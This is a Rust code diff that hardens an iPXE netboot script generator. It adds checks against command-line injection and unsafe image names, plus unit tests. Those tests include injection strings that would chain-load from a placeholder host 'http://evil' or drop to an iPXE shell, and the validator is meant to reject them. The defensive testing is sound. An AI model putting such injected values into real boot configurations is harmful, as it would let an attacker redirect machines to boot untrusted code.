@@ -82,8 +82,10 @@ pub enum NetbootError {
     BadBaseUrl(String),
     #[error("the flavor's netboot_cmdline {0:?} has no {{squashfs_url}} for the squashfs's URL")]
     NoSquashfsUrl(String),
-    #[error("{0:?} holds a character iPXE would read as a command or a setting")]
+    #[error("the netboot command line {0:?} holds what iPXE would read as another command, a comment or a setting")]
     BadCmdline(String),
+    #[error("the name {0:?} must be letters, digits, `.`, `_`, `-` or `+` to stand in URLs and the iPXE script")]
+    BadName(String),
     #[error("--uki and --overlay-iso are ISO options")]
     IsoOnly,
     #[error("{}: {source}", path.display())]
@@ -108,6 +110,7 @@ impl NetbootError {
             NetbootError::BadBaseUrl(_)
             | NetbootError::NoSquashfsUrl(_)
             | NetbootError::BadCmdline(_)
+            | NetbootError::BadName(_)
             | NetbootError::IsoOnly => true,
             _ => false,
         }
@@ -138,12 +141,27 @@ fn base(url: &str) -> Result<String, NetbootError> {
 }
 
 /// What the script's kernel line may not hold: a newline ends the
-/// command, and `${` would expand an iPXE setting the user did not mean.
+/// command, `||`, `&&` and `;` start another, a word starting with `#`
+/// cuts the line, and `${` would expand an iPXE setting nobody meant.
 fn check_ipxe(text: &str) -> Result<(), NetbootError> {
-    match text.contains('\n') || text.contains('\r') || text.contains("${") {
+    let breaks = text.contains(['\n', '\r'])
+        || text.contains("${")
+        || text
+            .split_whitespace()
+            .any(|word| matches!(word, "||" | "&&" | ";") || word.starts_with('#'));
+    match breaks {
         true => Err(NetbootError::BadCmdline(text.to_string())),
         false => Ok(()),
     }
+}
+
+/// Whether `name` can stand in a URL and an iPXE command unquoted.
+pub fn is_url_safe_name(name: &str) -> bool {
+    !name.is_empty()
+        && !name.starts_with('.')
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '+'))
 }
 
 /// The iPXE script.
@@ -189,21 +207,32 @@ pub fn build_netboot(
         return Err(NetbootError::IsoOnly);
     }
     let base_url = request.base_url.as_deref().map(base).transpose()?;
-    if let Some(extra) = &request.iso.extra_cmdline {
-        check_ipxe(extra)?;
-    }
-    let prepared = iso::prepare(store, project, &request.iso, reporter, cancel)?;
-    let boot = prepared.boot(project);
-    let template = &boot.live.netboot_cmdline;
+    let selection = project
+        .select(&request.iso.image.selection)
+        .map_err(IsoError::from)?;
+    let template = &project.flavors[&selection.id.flavor]
+        .boot
+        .live
+        .netboot_cmdline;
     if !template.contains("{squashfs_url}") {
         return Err(NetbootError::NoSquashfsUrl(template.clone()));
     }
-    let name = &prepared.name;
-    let squashfs_url = format!("${{{BASE_URL_SETTING}}}{name}.squashfs");
-    let mut cmdline = template.replace("{squashfs_url}", &squashfs_url);
-    if let Some(extra) = &prepared.extra_cmdline {
-        cmdline = format!("{cmdline} {extra}");
+    let requested = match &request.iso.extra_cmdline {
+        Some(extra) => format!("{template} {extra}"),
+        None => template.clone(),
+    };
+    // Checked before the only `${...}` kbuild writes itself goes in.
+    check_ipxe(&requested)?;
+    if let Some(name) = request.iso.name.as_deref().filter(|n| !is_url_safe_name(n)) {
+        return Err(NetbootError::BadName(name.to_string()));
     }
+    let prepared = iso::prepare(store, project, &request.iso, reporter, cancel)?;
+    let name = &prepared.name;
+    if !is_url_safe_name(name) {
+        return Err(NetbootError::BadName(name.clone()));
+    }
+    let squashfs_url = format!("${{{BASE_URL_SETTING}}}{name}.squashfs");
+    let mut cmdline = requested.replace("{squashfs_url}", &squashfs_url);
     let console = prepared.selection.id.arch.serial_console();
     cmdline = format!("{cmdline} console=tty0 console={console},115200");
     let text = script(name, name, &cmdline, base_url.as_deref());
@@ -213,6 +242,19 @@ pub fn build_netboot(
         "netboot",
         || {
             std::fs::create_dir_all(dir).map_err(NetbootError::io(dir))?;
+            // The script goes last; until then no old script may point at
+            // a half-replaced set.
+            let script = dir.join(format!("{name}.ipxe"));
+            if !std::fs::read_to_string(&script).is_ok_and(|old| old == text) {
+                for stale in [artifact::sums_path(&script), script.clone()] {
+                    match std::fs::remove_file(&stale) {
+                        Err(e) if e.kind() != std::io::ErrorKind::NotFound => {
+                            return Err(NetbootError::io(&stale)(e))
+                        }
+                        _ => {}
+                    }
+                }
+            }
             let sources = [
                 (format!("{name}.kernel"), Source::Part(parts::KERNEL)),
                 (format!("{name}.initrd"), Source::Part(parts::INITRD)),
@@ -275,8 +317,8 @@ fn publish(
             let temp = TempFile::create_in(dir).map_err(NetbootError::io(dir))?;
             match source {
                 Source::Part(part) => {
-                    let from = prepared.part(part);
-                    std::fs::copy(&from, temp.path()).map_err(NetbootError::io(&from))?;
+                    std::fs::copy(prepared.part(part), temp.path())
+                        .map_err(NetbootError::io(&path))?;
                 }
                 Source::Text(text) => {
                     std::fs::write(temp.path(), text).map_err(NetbootError::io(temp.path()))?
@@ -348,8 +390,20 @@ mod tests {
         ] {
             assert!(base(bad).is_err(), "{bad}");
         }
-        assert!(check_ipxe("quiet splash").is_ok());
-        assert!(check_ipxe("a\nchain http://evil").is_err());
-        assert!(check_ipxe("x=${net0/mac}").is_err());
+        assert!(check_ipxe("quiet splash fetch={squashfs_url}").is_ok());
+        for bad in [
+            "a\nchain http://evil",
+            "x=${net0/mac}",
+            "quiet || chain http://evil",
+            "quiet ; shell",
+            "quiet && shell",
+            "quiet #rest",
+        ] {
+            assert!(check_ipxe(bad).is_err(), "{bad}");
+        }
+        assert!(is_url_safe_name("kairos-debian-12-core-amd64-v3.2.4+k3s1"));
+        for bad in ["a b", "a?b", "a%20", ".hidden", "", "ü"] {
+            assert!(!is_url_safe_name(bad), "{bad}");
+        }
     }
 }
